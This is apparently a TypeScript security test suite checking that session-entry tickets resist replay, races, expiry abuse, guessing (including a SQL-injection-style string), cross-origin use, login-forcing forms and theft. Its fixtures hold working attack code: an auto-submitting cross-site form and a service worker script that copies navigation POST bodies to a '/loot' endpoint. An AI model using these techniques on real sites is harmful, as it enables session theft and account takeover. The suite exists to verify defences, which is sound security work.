import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { test } from "node:test";
import { ask } from "./support/asking.ts";
import { attempt } from "./support/browsing.ts";
import type { Family } from "./support/family.ts";
import { type Lure, lured } from "./support/lure.ts";
import { logIn, post, reached, sessionOf, share, type Ticket, ticketTo } from "./support/people.ts";

/** What is tried with the tickets by which people go into sessions. */
export const tickets: Family = (stage, sameSite) => {
  test("use a ticket twice, late, or many times at once", async () => {
    const { world } = stage();
    const pi = await logIn(world, "pi");
    const place = await sessionOf(world, pi);
    const ticket = await ticketTo(pi, place.id);
    const race = await Promise.all(Array.from({ length: 6 }, () => post(world, ticket)));
    assert.equal(race.filter(({ status }) => status === 303).length, 1);
    assert.equal((await post(world, ticket)).headers["set-cookie"], undefined);
    const late = await ticketTo(pi, place.id);
    await world.database.pool.query("UPDATE tickets SET expires_at = expires_at - 30001");
    assert.equal((await post(world, late)).headers["set-cookie"], undefined);
  });

  test("guess a ticket, or cut one out of another's", async () => {
    const { world } = stage();
    const pi = await logIn(world, "pi");
    const place = await sessionOf(world, pi);
    const { url, ticket } = await ticketTo(pi, place.id);
    assert.ok(Buffer.from(ticket, "base64url").length >= 32);
    const guesses = ["", "%", "null", ticket.slice(1), `${ticket}A`, ticket.toLowerCase(), `' or 1=1 --`];
    for (const guess of [
      ...guesses,
      ...Array.from({ length: 5 }, () => randomBytes(32).toString("base64url")),
    ])
      assert.ok((await post(world, { url, ticket: encodeURIComponent(guess) })).status >= 400, guess);
    assert.equal((await post(world, { url, ticket })).status, 303, "the right one is still good");
  });

  test("use a ticket at another session's origin, or by another method or address", async () => {
    const { world } = stage();
    const [pi, other] = [await logIn(world, "pi"), await logIn(world, "other")];
    const [place, elsewhere] = [await sessionOf(world, pi), await sessionOf(world, other)];
    const { url, ticket } = await ticketTo(other, elsewhere.id);
    const there = await post(world, { url: url.replace(elsewhere.origin, place.origin), ticket });
    assert.equal(there.headers["set-cookie"], undefined);
    const asked = await ask(world, elsewhere.origin, `/.endstation/enter?ticket=${ticket}`, {
      headers: { origin: world.origin },
    });
    assert.equal(asked.headers["set-cookie"], undefined);
    for (const path of ["/.endstation/enter/", "/.Endstation/enter", "/%2eendstation/enter"])
      assert.notEqual((await post(world, { url: elsewhere.origin + path, ticket })).status, 303, path);
  });

  test("use a ticket whose right was lost since it was made", async () => {
    const { world } = stage();
    const [pi, other] = [await logIn(world, "pi"), await logIn(world, "other")];
    const place = await sessionOf(world, pi);
    await share(place, "other");
    const ticket = await ticketTo(other, place.id);
    await pi.call("DELETE", `/sessions/${place.id}/shares?account=other`);
    const answer = await post(world, ticket);
    assert.ok(answer.status >= 400);
    assert.equal(answer.headers["set-cookie"], undefined);
  });

  test("have her enter the attacker's session unasked, by the attacker's own ticket in a form", () =>
    lured(stage(), async (lure) => {
      const { world } = stage();
      const trap = await sessionOf(world, lure.place.owner);
      await forceIn(lure, await ticketTo(lure.place.owner, trap.id));
      assert.deepEqual(reached(trap, /^\/$/), []);
    }));

  if (sameSite)
    test("without the check that a ticket comes from the portal's page, that one succeeds", () =>
      lured(stage(), async (lure) => {
        const { world } = stage();
        const trap = await sessionOf(world, lure.place.owner);
        const ticket = await ticketTo(lure.place.owner, trap.id);
        const fromPortal = {
          request: (headers: Record<string, unknown>) =>
            void Object.assign(headers, headers["origin"] && { origin: world.origin }),
        };
        await world.front.without(fromPortal, () => forceIn(lure, ticket));
        assert.deepEqual(reached(trap, /^\/$/), ["/"]);
      }));

  test("steal the next ticket by a service worker that was left in her browser", () =>
    lured(stage(), async (lure) => assert.equal(await stolenByWorker(lure), null)));

  if (sameSite)
    test("without the refusal of service workers, that one succeeds", () =>
      lured(stage(), (lure) =>
        stage().world.front.without(
          {
            request: (headers) => {
              delete headers["service-worker"];
              if (headers["sec-fetch-dest"] === "serviceworker") headers["sec-fetch-dest"] = "script";
            },
          },
          async () => assert.match((await stolenByWorker(lure)) ?? "", /^ticket=[\w-]{43}$/),
        ),
      ));

  test("find a ticket in an address, the history or what a session is told of where she came from", () =>
    lured(stage(), async ({ page, place }) => {
      const told = await attempt(
        page,
        () => [location.href, document.referrer, JSON.stringify(history.state)],
        null,
      );
      assert.doesNotMatch((told ?? []).join(" "), /ticket|enter|sessions/);
      const lines = place.server.seen.map(({ url, lines: given }) => [url, ...given].join(" ")).join(" ");
      assert.doesNotMatch(lines, new RegExp(`ticket|enter|${stage().world.origin}`, "i"));
    }));
};

async function forceIn({ page }: Lure, ticket: Ticket): Promise<void> {
  await attempt(
    page,
    async ({ url, ticket: value }) => {
      const form = Object.assign(document.createElement("form"), {
        method: "post",
        action: url,
        target: "_blank",
      });
      form.append(Object.assign(document.createElement("input"), { name: "ticket", value }));
      document.body.append(form);
      form.submit();
      await new Promise((resolve) => setTimeout(resolve, 1_000));
    },
    { ...ticket },
  );
}

/** Leaves a service worker at the session's origin, lets her come again, and answers what it read of that. */
async function stolenByWorker({ page, place, victim }: Lure): Promise<string | null> {
  let stolen: string | null = null;
  place.server.pages.set("/worker.js", (_request, response) =>
    response
      .writeHead(200, { "content-type": "text/javascript", "service-worker-allowed": "/" })
      .end(workerScript),
  );
  place.server.pages.set("/loot", async (request, response) => {
    stolen = "";
    for await (const chunk of request) stolen += chunk;
    response.end();
  });
  await attempt(
    page,
    async () => {
      const given = await navigator.serviceWorker.register("/worker.js", { scope: "/" });
      const worker = given.installing ?? given.waiting ?? given.active;
      for (let turn = 0; turn < 30 && worker?.state !== "activated"; turn += 1)
        await new Promise((resolve) => setTimeout(resolve, 100));
    },
    null,
  );
  const again = await victim.open(place).catch(() => null);
  await page.waitForTimeout(500);
  await again?.close();
  return stolen;
}

const workerScript = `
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (event) => {
  if (event.request.method === "POST" && event.request.mode === "navigate")
    event.respondWith(event.request.clone().text()
      .then((body) => fetch("/loot", { method: "POST", body })).then(() => fetch(event.request)));
});`;
